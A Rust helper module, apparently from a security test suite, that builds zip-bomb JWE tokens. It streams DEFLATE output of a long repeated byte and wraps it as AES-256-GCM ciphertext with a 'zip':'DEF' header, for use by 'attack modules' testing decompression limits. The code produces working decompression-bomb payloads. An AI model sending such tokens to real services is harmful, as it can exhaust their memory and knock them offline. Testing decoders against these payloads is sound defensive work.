//! Zip-bomb makers shared by the `zip_def` and `zip_bomb` attack modules.

use aes_gcm::aead::AeadInOut;
use aes_gcm::{Aes256Gcm, KeyInit};

/// Raw DEFLATE of `len` bytes of `byte`, streamed (the plaintext never exists at once).
pub fn deflate_repeated(byte: u8, len: usize) -> Vec<u8> {
    use miniz_oxide::deflate::core::{
        CompressorOxide, TDEFLFlush, TDEFLStatus, compress, create_comp_flags_from_zip_params,
    };
    let mut comp = Box::new(CompressorOxide::new(create_comp_flags_from_zip_params(
        9, -15, 0,
    )));
    let chunk = vec![byte; 1 << 20];
    let mut out = Vec::new();
    let mut buf = vec![0u8; 1 << 16];
    let mut left = len;
    loop {
        let n = left.min(chunk.len());
        left -= n;
        let flush = if left == 0 {
            TDEFLFlush::Finish
        } else {
            TDEFLFlush::None
        };
        let mut input = &chunk[..n];
        loop {
            let (status, used, wrote) = compress(&mut comp, input, &mut buf, flush);
            out.extend_from_slice(&buf[..wrote]);
            input = &input[used..];
            match status {
                TDEFLStatus::Done => return out,
                TDEFLStatus::Okay if input.is_empty() && wrote < buf.len() => break,
                TDEFLStatus::Okay => {}
                s => panic!("{s:?}"),
            }
        }
    }
}

/// A `dir` + A256GCM token carrying `compressed` as its (authenticated) ciphertext.
pub fn token(key: &[u8; 32], compressed: &[u8]) -> String {
    token_with(
        key,
        r#"{"alg":"dir","enc":"A256GCM","zip":"DEF"}"#,
        compressed,
    )
}

/// A compact `dir` + A256GCM token with this protected header (which should say
/// `"alg":"dir","enc":"A256GCM"`), carrying `compressed` as its ciphertext.
pub fn token_with(key: &[u8; 32], protected_json: &str, compressed: &[u8]) -> String {
    let protected = crate::support::b64::encode(protected_json.as_bytes());
    let iv = [9u8; 12];
    let mut buf = compressed.to_vec();
    let tag = Aes256Gcm::new_from_slice(key)
        .unwrap()
        .encrypt_inout_detached(&iv.into(), protected.as_bytes(), buf.as_mut_slice().into())
        .unwrap();
    format!(
        "{protected}..{}.{}.{}",
        crate::support::b64::encode(&iv),
        crate::support::b64::encode(&buf),
        crate::support::b64::encode(&tag)
    )
}

/// The flattened JSON serialization of a compact JWE (same parts, no `aad`).
pub fn to_flattened(compact: &str) -> String {
    let p: Vec<&str> = compact.split('.').collect();
    serde_json::json!({
        "protected": p[0], "encrypted_key": p[1], "iv": p[2], "ciphertext": p[3], "tag": p[4]
    })
    .to_string()
}
